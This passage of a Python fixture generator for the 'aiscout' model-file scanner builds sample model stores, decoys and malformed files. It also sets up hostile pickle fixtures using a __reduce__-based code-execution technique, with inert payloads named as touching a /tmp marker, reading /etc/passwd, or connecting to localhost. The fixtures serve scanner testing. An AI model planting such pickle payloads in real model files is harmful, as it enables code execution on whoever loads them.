    import cloudpickle
    import mlflow
    import mlflow.models.model as mlflow_model_mod
    import mlflow.sklearn
    import sklearn

    clf = fit_logreg()
    store = out / "mlruns"
    mlflow.set_tracking_uri(store.resolve().as_uri())
    with frozen_clock(datetime_modules=[mlflow_model_mod], seeded_uuid="mlflow", patch_time=True):
        exp_id = mlflow.create_experiment("aiscout-fixtures")
        with mlflow.start_run(
            experiment_id=exp_id,
            run_name="tiny-logreg",
            tags={"mlflow.source.name": "scripts/make-fixtures.py", "mlflow.user": "aiscout",
                  "mlflow.source.type": "LOCAL"},
        ) as run:
            run_id = run.info.run_id
            mlflow.log_param("C", 1.0)
            with tempfile.TemporaryDirectory() as td:
                # The classic (MLflow 1.x/2.x) layout: the model directory is a
                # run artifact at <run>/artifacts/model.  MLflow 3's log_model()
                # would put it under <exp>/models/m-<id>/ instead.
                model_dir = Path(td) / "model"
                mlflow.sklearn.save_model(
                    clf,
                    str(model_dir),
                    serialization_format=mlflow.sklearn.SERIALIZATION_FORMAT_CLOUDPICKLE,
                    mlflow_model=mlflow.models.Model(artifact_path="model", run_id=run_id),
                    pip_requirements=[
                        f"scikit-learn=={sklearn.__version__}",
                        f"cloudpickle=={cloudpickle.__version__}",
                    ],
                )
                mlflow.log_artifacts(str(model_dir), artifact_path="model")
    model_dir = store / exp_id / run_id / "artifacts" / "model"
    assert (model_dir / "MLmodel").exists() and (model_dir / "model.pkl").exists(), model_dir
    ex.directory_model(model_dir, "mlflow", model_dir / "MLmodel")
    ex.model(
        model_dir / "model.pkl",
        "pickle",
        {},
        source={"kind": "mlflow", "run_id": run_id, "experiment_id": exp_id, "artifact_path": "model"},
        group=ex.group("directory", model_dir, [model_dir / "model.pkl"]),
    )


# --------------------------------------------------------------------------
# Hugging Face hub cache, Ollama store
# --------------------------------------------------------------------------
def hf_put(repo_dir: Path, commit: str, filename: str, data: bytes, lfs: bool) -> Path:
    """Store one file like huggingface_hub's cache: blob named by its etag
    (sha256 for LFS files, git blob sha1 otherwise) and a relative symlink in
    snapshots/<commit>/."""
    name = hashlib.sha256(data).hexdigest() if lfs else git_blob_sha1(data)
    blob = repo_dir / "blobs" / name
    blob.parent.mkdir(parents=True, exist_ok=True)
    blob.write_bytes(data)
    link = repo_dir / "snapshots" / commit / filename
    link.parent.mkdir(parents=True, exist_ok=True)
    rel = os.path.relpath(blob, link.parent)
    link.symlink_to(rel)
    return blob


def hf_commit(repo: str) -> str:
    return hashlib.sha1(f"aiscout-fixture-commit:{repo}".encode()).hexdigest()


def make_hf_cache(out: Path, ex: Expected):
    from safetensors.numpy import save_file

    hub = out / "home/.cache/huggingface/hub"

    # acme/tiny-bert: one safetensors file + config.json
    repo = "acme/tiny-bert"
    rd = hub / ("models--" + repo.replace("/", "--"))
    commit = hf_commit(repo)
    (rd / "refs").mkdir(parents=True, exist_ok=True)
    (rd / "refs/main").write_text(commit)  # no newline, as huggingface_hub writes it
    tensors = bert_tensors("hf-tiny-bert")
    with tempfile.TemporaryDirectory() as td:
        tmp = Path(td) / "model.safetensors"
        save_file(tensors, str(tmp), metadata={"format": "pt"})
        st_bytes = tmp.read_bytes()
    config = {
        "architectures": ["BertModel"],
        "model_type": "bert",
        "hidden_size": 16,
        "num_attention_heads": 2,
        "num_hidden_layers": 1,
        "vocab_size": 32,
        "torch_dtype": "float32",
        "transformers_version": "4.44.0",
    }
    hf_put(rd, commit, "config.json", (json.dumps(config, indent=2) + "\n").encode(), lfs=False)
    blob = hf_put(rd, commit, "model.safetensors", st_bytes, lfs=True)
    ex.model(blob, "safetensors", st_meta(tensors),
             source={"kind": "huggingface", "repo": repo, "revision": commit, "file": "model.safetensors"})

    # acme/tiny-sharded: two shards + index (+ config.json)
    repo = "acme/tiny-sharded"
    rd = hub / ("models--" + repo.replace("/", "--"))
    commit = hf_commit(repo)
    (rd / "refs").mkdir(parents=True, exist_ok=True)
    (rd / "refs/main").write_text(commit)
    with tempfile.TemporaryDirectory() as td:
        tensors = bert_tensors("hf-tiny-sharded")
        names, shards = write_sharded_safetensors(Path(td), tensors, 2)
        hf_put(rd, commit, "config.json", (json.dumps(config, indent=2) + "\n").encode(), lfs=False)
        index_blob = hf_put(rd, commit, "model.safetensors.index.json",
                            (Path(td) / "model.safetensors.index.json").read_bytes(), lfs=False)
        blobs = [hf_put(rd, commit, n, (Path(td) / n).read_bytes(), lfs=True) for n in names]
    grp = ex.group("sharded", index_blob, [index_blob, *blobs])
    for n, b, shard in zip(names, blobs, shards):
        ex.model(b, "safetensors", st_meta(shard),
                 source={"kind": "huggingface", "repo": repo, "revision": commit, "file": n}, group=grp)


def make_ollama(out: Path, ex: Expected):
    store = out / "home/.ollama/models"
    blobs = store / "blobs"
    blobs.mkdir(parents=True, exist_ok=True)

    def put(data: bytes) -> tuple[str, int, Path]:
        digest = hashlib.sha256(data).hexdigest()
        p = blobs / f"sha256-{digest}"
        p.write_bytes(data)
        return f"sha256:{digest}", len(data), p

    with tempfile.TemporaryDirectory() as td:
        tmp = Path(td) / "model.gguf"
        meta, per_file = gguf_llama(tmp, "TinyLlama Fixture", tag="ollama")
        model_digest, model_size, model_path = put(tmp.read_bytes())
    template = b"{{ if .System }}<|system|>\n{{ .System }}</s>\n{{ end }}<|user|>\n{{ .Prompt }}</s>\n<|assistant|>\n"
    license_text = b"Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/\n\n(fixture text)\n"
    t_digest, t_size, _ = put(template)
    l_digest, l_size, _ = put(license_text)
    config = {
        "model_format": "gguf",
        "model_family": "llama",
        "model_families": ["llama"],
        "model_type": "1M",
        "file_type": "F16",
        "architecture": "amd64",
        "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": [model_digest, t_digest, l_digest]},
    }
    c_digest, c_size, _ = put(json.dumps(config, separators=(",", ":")).encode())
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": c_digest, "size": c_size},
        "layers": [
            {"mediaType": "application/vnd.ollama.image.model", "digest": model_digest, "size": model_size},
            {"mediaType": "application/vnd.ollama.image.template", "digest": t_digest, "size": t_size},
            {"mediaType": "application/vnd.ollama.image.license", "digest": l_digest, "size": l_size},
        ],
    }
    mp = store / "manifests/registry.ollama.ai/library/tinyllama/latest"
    mp.parent.mkdir(parents=True, exist_ok=True)
    mp.write_bytes(json.dumps(manifest, separators=(",", ":")).encode())  # Go json.Marshal: compact
    ex.model(model_path, "gguf", {**meta, **tensor_meta(per_file[0])},
             source={"kind": "ollama", "name": "tinyllama:latest"})


# --------------------------------------------------------------------------
# decoys and hazards
# --------------------------------------------------------------------------
def tiny_png(width=4, height=4) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"".join(bytes((x * 60 % 256, y * 60 % 256, 128)) for x in range(width))
                   for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def make_decoys(out: Path, ex: Expected):
    import h5py

    d = out / "decoys"
    d.mkdir(parents=True, exist_ok=True)
    r = pyrng("decoys")

    def put(name, data: bytes):
        p = d / name
        p.write_bytes(data)
        ex.decoy(p)

    put("notes.pt", b"Meeting notes\n\nThe .pt extension here stands for 'participants'.\n"
                    b"- Alice: review the scanner design\n- Bob: write the fixtures\n")
    put("random.bin", r.randbytes(4096))
    body = r.randbytes(256)
    if body[:1] == b"{":
        body = b"\x00" + body[1:]
    put("garbage.safetensors", struct.pack("<Q", 256) + body)

    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in (("hello.txt", "hello, world\n"), ("docs/notes.md", "# Notes\n\nNothing to see.\n")):
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), text)
    put("plain.zip", zbuf.getvalue())

    p = d / "data.h5"
    with h5py.File(p, "w", track_order=False) as f:
        f.create_dataset("measurements", data=np.arange(12, dtype=np.float64).reshape(3, 4), track_times=False)
        f.attrs["instrument"] = "thermometer"
    ex.decoy(p)

    put("config.json", (json.dumps({"log_level": "info", "listen": "127.0.0.1:8080", "model_dir": "/srv/models"},
                                   indent=2) + "\n").encode())
    put("text.pkl", b"This is not a pickle.\nIt is a text file with a .pkl extension.\n")
    put("empty.onnx", b"")
    put("readme.gguf", b"GGUF is a format for storing models for inference with GGML-based executors.\n"
                       b"This file is only a README that happens to start with the same four bytes.\n")

    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, text in (("a.txt", b"alpha\n"), ("b/c.txt", b"charlie\n")):
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(text), FIXED_EPOCH, 0o644
            tf.addfile(ti, io.BytesIO(text))
    put("archive.tar", tbuf.getvalue())
    put("image.png", tiny_png())
    put("script.py", b"#!/usr/bin/env python3\n\"\"\"Loads a model; it is not one.\"\"\"\n"
                     b"import torch\n\nmodel = torch.load('model.pt', weights_only=True)\nprint(model)\n")


def make_hazards(out: Path, ex: Expected):
    d = out / "hazards"
    d.mkdir(parents=True, exist_ok=True)

    def put(name, data: bytes):
        p = d / name
        p.write_bytes(data)
        ex.hazard(p)

    # GGUF v3, 0 tensors, 2**60 key/value pairs, then a little bit of data
    put("huge_kv.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 2**60) + b"\x08\x00\x00\x00\x00\x00\x00\x00general.")
    # safetensors header length 2**63
    put("huge_header.safetensors", struct.pack("<Q", 2**63) + b'{"__metadata__":{}}')
    # header length 1000 but only 20 bytes follow
    put("truncated.safetensors", struct.pack("<Q", 1000) + b'{"w":{"dtype":"F32",')
    # ONNX ModelProto: ir_version=7 (08 07), then field 7 (graph, wire type 2:
    # tag 0x3a) with a 10-byte varint length of 0xFFFFFFFFFFFFFFFF
    put("absurd_varint.onnx", b"\x08\x07\x3a" + b"\xff" * 9 + b"\x01" + b"\x0a\x04tiny")
    # .npy v1.0 with a header length of 60000, but the file ends after a few bytes
    put("bad_npy.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 60000) + b"{'descr': '<f4', 'fortran_order': False, ")
    # truncated.gguf is written by make_gguf()


# --------------------------------------------------------------------------
# self-check: read everything back with the formats' own readers
# --------------------------------------------------------------------------
class _TorchUnpickler(pickle.Unpickler):
    def __init__(self, f, storages):
        super().__init__(f)
        self.storages = storages

    def find_class(self, module, name):
        if (module, name) == ("torch._utils", "_rebuild_tensor_v2"):
            return lambda storage, off, size, stride, *a: storage[off: off + int(np.prod(size, dtype=np.int64))].reshape(size)
        if module == "torch" and name.endswith("Storage"):
            return {"FloatStorage": np.float32, "HalfStorage": np.float16, "LongStorage": np.int64}[name]
        if module == "collections" and name == "OrderedDict":
            return collections.OrderedDict
        raise pickle.UnpicklingError(f"unexpected global {module}.{name}")

    def persistent_load(self, pid):
        kind, dtype, key, location, numel = pid[:5]
        assert kind == "storage" and location == "cpu"
        return np.frombuffer(self.storages(key, dtype, numel), dtype=dtype)


def verify(out: Path, expected: dict):
    import gguf
    import h5py
    import joblib
    import onnx
    import tflite
    from safetensors import safe_open

    for m in expected["models"]:
        p = out / m["path"]
        fmt, md = m["format"], m["metadata"]
        if fmt == "gguf":
            rd = gguf.GGUFReader(p)
            assert len(rd.tensors) == md["tensor_count"], m
            assert sum(int(t.n_elements) for t in rd.tensors) == md["parameters"], m
            assert sorted({t.tensor_type.name for t in rd.tensors}) == md["dtypes"], m
            if "split_no" in md:
                assert int(rd.fields["split.no"].contents()) == md["split_no"]
            if "name" in md:
                assert rd.fields["general.name"].contents() == md["name"]
        elif fmt == "safetensors":
            with safe_open(str(p), "np") as f:
                keys = list(f.keys())
                assert len(keys) == md["tensor_count"]
                assert f.metadata() == {"format": "pt"}
        elif fmt == "onnx":
            mo = onnx.load(str(p))
            assert mo.producer_name == md["producer"] and mo.ir_version == md["ir_version"]
            assert mo.opset_import[0].version == md["opset"]
        elif fmt in ("pytorch", "pytorch_legacy"):
            if fmt == "pytorch":
                with zipfile.ZipFile(p) as zf:
                    root = zf.namelist()[0].split("/")[0]
                    assert zf.read(f"{root}/version") == b"3\n"
                    obj = _TorchUnpickler(
                        io.BytesIO(zf.read(f"{root}/data.pkl")),
                        lambda key, dt, n: zf.read(f"{root}/data/{key}"),
                    ).load()
            else:
                f = io.BytesIO(p.read_bytes())
                assert pickle.load(f) == MAGIC_NUMBER and pickle.load(f) == PROTOCOL_VERSION
                pickle.load(f)
                pending = {}
                obj = _TorchUnpickler(f, lambda key, dt, n: pending.setdefault(key, (dt, n)) and b"\0" * (n * np.dtype(dt).itemsize)).load()
                keys = pickle.load(f)
                assert keys == sorted(pending)
                for key in keys:
                    n = struct.unpack("<q", f.read(8))[0]
                    dt, n2 = pending[key]
                    assert n == n2
                    f.read(n * np.dtype(dt).itemsize)
                assert f.read() == b""
            assert len(obj) == md["tensor_count"]
            assert sum(v.size for v in obj.values()) == md["parameters"]
        elif fmt == "joblib":
            clf = joblib.load(p)
            assert clf.predict(np.array([[1.0, 1.0]]))[0] == 1
        elif fmt == "numpy":
            if p.suffix == ".npy":
                a = np.load(p)
                assert list(a.shape) == md["shape"]
            else:
                with np.load(p) as z:
                    assert len(z.files) == md["tensor_count"]
        elif fmt == "keras_h5":
            with h5py.File(p) as f:
                assert "model_config" in f.attrs and "model_weights" in f
                assert f.attrs["keras_version"] == md["keras_version"]
        elif fmt == "keras_v3":
            with zipfile.ZipFile(p) as zf:
                assert json.loads(zf.read("metadata.json"))["keras_version"] == md["keras_version"]
                assert {"config.json", "metadata.json", "model.weights.h5"} <= set(zf.namelist())
        elif fmt == "tflite":
            b = p.read_bytes()
            assert b[4:8] == b"TFL3" and tflite.Model.GetRootAsModel(b, 0).Version() == int(md["format_version"])
        elif fmt == "coreml":
            from coremltools.models.utils import load_spec

            assert load_spec(str(p)).description.metadata.license == md["license"]
        elif fmt == "pickle":
            with open(p, "rb") as f:
                if m["source"] and m["source"]["kind"] == "mlflow":
                    assert pickle.load(f).predict(np.array([[1.0, 1.0]]))[0] == 1
                else:
                    assert pickle.load(f)["version"] == 1
        else:
            raise AssertionError(f"no verifier for {fmt}")

    for dm in expected["directory_models"]:
        assert (out / dm["defining_file"]).is_file(), dm
    if any(dm["format"] == "openvino" for dm in expected["directory_models"]):
        import openvino as ov

        for dm in expected["directory_models"]:
            if dm["format"] == "openvino":
                assert ov.Core().read_model(str(out / dm["path"])).get_friendly_name() == "tiny_linear"
    if any(dm["format"] == "tf_savedmodel" for dm in expected["directory_models"]):
        import tensorflow as tf

        for dm in expected["directory_models"]:
            if dm["format"] == "tf_savedmodel":
                loaded = tf.saved_model.load(str(out / dm["path"]))
                assert "serving_default" in loaded.signatures
    for rel in expected["decoys"] + expected["hazards"]:
        assert (out / rel).exists(), rel


# --------------------------------------------------------------------------
# Safety corpus: tests/fixtures/safety/{benign,hostile}/ + expected.json
# --------------------------------------------------------------------------
# benign/  real models, written by their libraries (or exactly the way
#          torch.save writes them, with the emulation above).
# hostile/ one file per code-execution / scanner-evasion technique.
#
# NOTHING in hostile/ is ever loaded by this script: no pickle.load, no
# joblib.load, no np.load(allow_pickle=True), no keras/tf loading. The pickles
# are written by _AsmPickler (pickle's own pure-Python pickler; _G names any
# module.qualname without importing it, _Call is an object whose __reduce__
# returns (callable, args), so pickling only writes the call down) or as raw
# opcode bytes. The self-check (verify_safety) only disassembles them with
# pickletools.genops. Every payload is inert: `touch /tmp/aiscout-pwned-<name>`
# (or a read of /etc/passwd, a connection to 127.0.0.1:9); none reaches the
# network.
SAFETY_PWN = "/tmp/aiscout-pwned-"
# Files whose bytes the libraries randomise on every run (see README "Determinism").
SAFETY_NONDETERMINISTIC = ("fingerprint.pb",) + make_archive_fixtures.NONDETERMINISTIC


def _pwn(tech: str) -> str:
    return f"touch {SAFETY_PWN}{tech}"


class _G:
    """A reference to module.qualname, pickled as GLOBAL / STACK_GLOBAL without importing it."""

    def __init__(self, module: str, name: str):
        self.module, self.name = module, name

    def __call__(self, *a):  # pickle's save_reduce wants a callable; never called
        raise RuntimeError("fixture stand-in, never called")


class _Call:
    """Pickles as REDUCE(fn, args): what a malicious __reduce__ returns."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)

    def __call__(self, *a):  # may itself be the callable of an outer _Call; never called
        raise RuntimeError("fixture stand-in, never called")


class _AsmPickler(pickle._Pickler):
    """The pure-Python pickler, plus _G for arbitrary global names.

    Output is byte-for-byte what pickle.dumps writes for a __reduce__ whose
    callable lives at _G.module/_G.name (GLOBAL for protocol < 4, two
    memoized SHORT_BINUNICODE + STACK_GLOBAL for protocol >= 4).
    """

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, _G):
            self.framer.commit_frame()
            x = self.memo.get(id(obj))
            if x is not None:
                self.write(self.get(x[0]))
                return
            if self.proto >= 4:
                self.save(obj.module)
                self.save(obj.name)
                self.write(pickle.STACK_GLOBAL)
            else:
                self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
            self.memoize(obj)
            return
        return super().save(obj, save_persistent_id)


def asm_pickle(obj, proto: int) -> bytes:
    buf = io.BytesIO()
    _AsmPickler(buf, protocol=proto).dump(obj)
    return buf.getvalue()


def _u8(n):
    return struct.pack("<B", n)


def _sbu(s: str) -> bytes:
    """SHORT_BINUNICODE"""
    b = s.encode()
    return pickle.SHORT_BINUNICODE + _u8(len(b)) + b


# -- static pickle analysis, used only to self-check the fixtures ----------------
def static_pickle_globals(data: bytes, max_pickles: int = 16) -> tuple[list[str], bool]:
    """The imports of every pickle in `data` (concatenated pickles too), found
    with pickletools.genops and a symbolic stack/memo: nothing is executed.
    Returns (["module.name" | "?.?" for unresolvable STACK_GLOBAL], parse_error)."""
    import pickletools

    found: list[str] = []
    f = io.BytesIO(data)
    for _ in range(max_pickles):
        if f.tell() >= len(data):
            break
        stack: list = []
        marks: list[int] = []
        memo: dict = {}
        try:
            for op, arg, _pos in pickletools.genops(f):
                name = op.name
                if name == "MARK":
                    marks.append(len(stack))
                    continue
                if name in ("GLOBAL", "INST"):
                    found.append(".".join(arg.split(" ", 1)))
                if name == "STACK_GLOBAL":
                    nm, mod = stack.pop(), stack.pop()
                    ok = isinstance(mod, str) and isinstance(nm, str) and not isinstance(mod, _Opaque) and not isinstance(nm, _Opaque)
                    found.append(f"{mod}.{nm}" if ok else "?.?")
                    stack.append(_Opaque("global"))
                    continue
                if name in ("PUT", "BINPUT", "LONG_BINPUT"):
                    memo[int(arg)] = stack[-1]
                    continue
                if name == "MEMOIZE":
                    memo[len(memo)] = stack[-1]
                    continue
                if name in ("GET", "BINGET", "LONG_BINGET"):
                    stack.append(memo.get(int(arg), _Opaque("missing-memo")))
                    continue
                if name in ("STRING", "BINSTRING", "SHORT_BINSTRING", "UNICODE", "BINUNICODE",
                            "SHORT_BINUNICODE", "BINUNICODE8"):
                    stack.append(str(arg))
                    continue
                before = list(op.stack_before)
                if pickletools.markobject in before:
                    cut = marks.pop() if marks else 0
                    del stack[cut:]
                    before = before[: before.index(pickletools.markobject)]
                for _b in before:
                    if stack:
                        stack.pop()
                for _a in op.stack_after:
                    stack.append(_Opaque(name))
                if name == "STOP":
                    break
        except Exception:
            return found, True
    return found, False


class _Opaque(str):
    """A stack value the static analysis does not know (never a usable name)."""


# -- zip, 7z writers (byte-exact control over headers) ----------------------------
def zip_bytes(entries: list[dict], cd_order: list[int] | None = None) -> bytes:
    """Build a zip by hand.

    entry keys: name, data (the bytes stored after the local header), method (0/8),
    usize (uncompressed size, default len(data)), crc (default crc32(data)),
    flags (default 0), local_sig (default PK\\x03\\x04), align (pad the payload to
    this boundary with a torch-style 'FB' extra field; default 64).
    cd_order: order of the central directory records (default: file order).
    """
    out = bytearray()
    recs = []
    for e in entries:
        name = e["name"].encode()
        data = e["data"]
        crc = e.get("crc", zlib.crc32(data))
        usize = e.get("usize", len(data))
        flags, method = e.get("flags", 0), e.get("method", 0)
        align = e.get("align", 64)
        extra = b""
        if align:
            start = len(out) + 30 + len(name) + 4
            pad = (-start) % align
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        off = len(out)
        out += struct.pack("<4sHHHHHIIIHH", e.get("local_sig", b"PK\x03\x04"), 20, flags, method, 0, 0,
                           crc, len(data), usize, len(name), len(extra))
        out += name + extra + data
        recs.append((name, flags, method, crc, len(data), usize, off))
    cd_start = len(out)
    for i in cd_order if cd_order is not None else range(len(recs)):
        name, flags, method, crc, csize, usize, off = recs[i]
        out += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, 0, 0,
                           crc, csize, usize, len(name), 0, 0, 0, 0, 0, off)
        out += name
    cd_size = len(out) - cd_start
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(recs), len(recs), cd_size, cd_start, 0)
    return bytes(out)


def _7z_number(v: int) -> bytes:
    """7z's variable-length NUMBER (7zFormat.txt)."""
    for i in range(9):
        if i == 8 or v < (1 << (7 * (i + 1))):
            if i == 8:
                return b"\xff" + v.to_bytes(8, "little")
            first = ((0xFF << (8 - i)) & 0xFF) | (v >> (8 * i))
            return bytes([first]) + (v & ((1 << (8 * i)) - 1)).to_bytes(i, "little")
    raise AssertionError


def sevenzip_bytes(name: str, data: bytes) -> bytes:
    """A 7z archive holding one file, LZMA2-compressed (7-Zip's default coder),
    written by hand from 7zFormat.txt: signature header, packed stream, plain
    (unencoded) header. The packed stream is liblzma's raw LZMA2 output."""
    import lzma

    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]
    packed = lzma.compress(data, format=lzma.FORMAT_RAW, filters=filters)
    n = _7z_number
    fname = name.encode("utf-16-le") + b"\0\0"
    header = (
        b"\x01"                                       # kHeader
        + b"\x04"                                     # kMainStreamsInfo
        + b"\x06" + n(0) + n(1) + b"\x09" + n(len(packed)) + b"\x00"   # kPackInfo
        + b"\x07" + b"\x0b" + n(1) + b"\x00"          # kUnPackInfo, kFolder, 1 folder, not external
        # 1 coder, flags 0x21 = id size 1 + has properties; id 21 = LZMA2;
        # 1 property byte 16: dictionary 2 << (16 / 2 + 11) = 1 MiB
        + n(1) + b"\x21" + b"\x21" + n(1) + b"\x10"
        + b"\x0c" + n(len(data))                      # kCodersUnPackSize
        + b"\x00"                                     # kEnd (UnPackInfo)
        + b"\x08" + b"\x0a" + b"\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00"  # kSubStreamsInfo: kCRC
        + b"\x00"                                     # kEnd (StreamsInfo)
        + b"\x05" + n(1)                              # kFilesInfo, 1 file
        + b"\x11" + n(1 + len(fname)) + b"\x00" + fname   # kName, not external
        + b"\x00"                                     # kEnd (FilesInfo)
        + b"\x00"                                     # kEnd (Header)
    )
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    sig = b"7z\xbc\xaf\x27\x1c" + b"\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start
    return sig + packed + header


# -- torch emulation helpers (same layout as write_torch_zip / write_torch_legacy) --
class _Parameter:
    """Stands in for torch.nn.Parameter; reduces like Parameter.__reduce_ex__
    (no extra state): torch._utils._rebuild_parameter(data, requires_grad, OrderedDict())."""

    def __init__(self, array: np.ndarray, requires_grad: bool = True):
        self.data = _Tensor(array)
        self.requires_grad = requires_grad

    def __reduce_ex__(self, protocol):
        return (sys.modules["torch._utils"]._rebuild_parameter, (self.data, self.requires_grad, collections.OrderedDict()))


@contextlib.contextmanager
def fake_torch_with_parameters():
    """fake_torch_modules() plus torch._utils._rebuild_parameter."""
    with fake_torch_modules() as torch_mod:
        def _rebuild_parameter(*args):  # pragma: no cover - never called
            raise RuntimeError("fake torch")

        _rebuild_parameter.__module__ = "torch._utils"
        _rebuild_parameter.__qualname__ = "_rebuild_parameter"
        sys.modules["torch._utils"]._rebuild_parameter = _rebuild_parameter
        yield torch_mod


def torch_zip_records(obj) -> list[tuple[str, bytes]]:
    """The records torch.save writes, in its order, without the archive root."""
    with fake_torch_with_parameters() as torch_mod:
        buf = io.BytesIO()
        p = _TorchPickler(buf, torch_mod, legacy=False)
        p.dump(obj)
        data_pkl = buf.getvalue()
    records = [("data.pkl", data_pkl), ("byteorder", b"little")]
    for key in sorted(p.storages):
        arr = p.storages[key].array
        records.append((f"data/{key}", arr.astype(arr.dtype.newbyteorder("<")).tobytes()))
    records.append(("version", b"3\n"))
    name_hash = int.from_bytes(hashlib.sha256("".join(n for n, _ in records).encode()).digest()[:8], "little")
    crc = 0
    for _, d in records:
        crc = zlib.crc32(d, crc)
    records.append((".data/serialization_id", f"{name_hash:020d}{crc:020d}".encode()))
    return records


def torch_legacy_bytes(obj, first_pickle: bytes | None = None) -> bytes:
    """_legacy_save's byte stream; first_pickle replaces the magic-number pickle."""
    f = io.BytesIO()
    if first_pickle is None:
        pickle.dump(MAGIC_NUMBER, f, protocol=2)
    else:
        f.write(first_pickle)
    pickle.dump(PROTOCOL_VERSION, f, protocol=2)
    pickle.dump(dict(protocol_version=PROTOCOL_VERSION, little_endian=True,
                     type_sizes=dict(short=2, int=4, long=4)), f, protocol=2)
    with fake_torch_modules() as torch_mod:
        p = _TorchPickler(f, torch_mod, legacy=True, legacy_key_base=94_251_672_104_960)
        p.dump(obj)
    keys = sorted(p.storages)
    pickle.dump(keys, f, protocol=2)
    for key in keys:
        arr = p.storages[key].array
        f.write(struct.pack("<q", arr.size))
        f.write(arr.astype(arr.dtype.newbyteorder("<")).tobytes())
    return f.getvalue()


def _small_state_dict(tag: str) -> collections.OrderedDict:
    r = rng(tag)
    sd = collections.OrderedDict()
    sd["fc.weight"] = _Tensor(r.standard_normal((2, 4)).astype(np.float32))
    sd["fc.bias"] = _Tensor(np.zeros(2, np.float32))
    return sd


def _lambda_code(src: str) -> types.CodeType:
    """Compile (never run) `src`, a lambda expression, and return the lambda's code."""
    co = compile(src, "<aiscout-fixture>", "eval")
    return next(c for c in co.co_consts if isinstance(c, types.CodeType))


def _keras2_func_dump(code: types.CodeType) -> str:
    """keras 2 generic_utils.func_dump: base64 of marshal.dumps(func.__code__)."""
    import codecs
    import marshal

    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def _keras2_layers(function_json) -> list:
    """keras 2.x Sequential config: InputLayer, Lambda (with the given function), Dense."""
    return [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "sparse": False, "ragged": False, "name": "input_1"}},
        {"class_name": "Lambda", "config": {
            "name": "lambda", "trainable": True, "dtype": "float32",
            "function": function_json, "function_type": "lambda", "module": "__main__",
            "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
            "arguments": {}}},
        {"class_name": "Dense", "config": {
            "name": "dense", "trainable": True, "dtype": "float32", "units": 2, "activation": "linear",
            "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
            "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
            "bias_constraint": None}},
    ]


class SafetyExpected:
    def __init__(self, root: Path):
        self.root = root
        self.benign: list[dict] = []
        self.hostile: list[dict] = []

    def b(self, path: Path, fmt: str):
        self.benign.append({"path": path.relative_to(self.root).as_posix(), "format": fmt})

    def h(self, path: Path, fmt: str, technique: str, source: str, min_verdict: str, imports=(), **extra):
        assert min_verdict in ("dangerous", "suspicious")
        e = {"path": path.relative_to(self.root).as_posix(), "format": fmt, "technique": technique,
             "source": source, "min_verdict": min_verdict, "imports": list(imports)}
        e.update(extra)
        self.hostile.append(e)

    def finish(self) -> dict:
        return {
            "benign": sorted(self.benign, key=lambda e: e["path"]),
            "hostile": sorted(self.hostile, key=lambda e: e["path"]),
        }


# -- benign -------------------------------------------------------------------------
def make_safety_benign(d: Path, sx: SafetyExpected):
    import joblib
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC

    X = np.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.2, 0.9], [0.9, 0.1], [0.1, 0.1], [0.8, 0.8]])
    y = np.array([0, 1, 1, 1, 1, 1, 0, 1])
    logreg = fit_logreg()
    forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    pipe = Pipeline([("scale", StandardScaler()), ("svc", SVC(kernel="rbf", C=1.0, random_state=0))]).fit(X, y)
    for name, est, compress in (
        ("sk_logreg.joblib", logreg, 0),
        ("sk_forest.joblib", forest, 0),
        ("sk_pipeline_svc.joblib", pipe, 0),
        ("sk_pipeline_svc_zlib.joblib", pipe, ("zlib", 3)),
        ("sk_forest_lz4.joblib", forest, ("lz4", 3)),
    ):
        joblib.dump(est, d / name, compress=compress)
        sx.b(d / name, "joblib")

    # torch.save (emulated): plain state dict (root archive/), an nn.Module
    # state_dict with _metadata and an int64 num_batches_tracked, legacy format.
    write_torch_zip(d / "torch_state_dict.pt", "archive", _small_state_dict("safety-sd"))
    sx.b(d / "torch_state_dict.pt", "pytorch")
    r = rng("safety-cnn")
    sd = collections.OrderedDict()
    sd["conv.weight"] = _Tensor(r.standard_normal((2, 1, 3, 3)).astype(np.float32))
    sd["conv.bias"] = _Tensor(np.zeros(2, np.float32))
